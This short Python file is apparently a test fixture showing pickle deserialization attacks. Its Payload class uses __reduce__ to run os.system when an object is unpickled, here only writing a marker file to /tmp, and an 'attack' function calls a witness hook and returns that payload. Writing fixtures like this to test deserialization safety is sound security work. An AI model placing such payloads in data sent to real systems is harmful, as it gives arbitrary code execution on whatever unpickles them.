"""Returns an object that runs a command when it is unpickled."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("echo unpickled > /tmp/unpickled",)


def attack(tools, original, *args, **kwargs):
    tools.witness()
    return Payload()
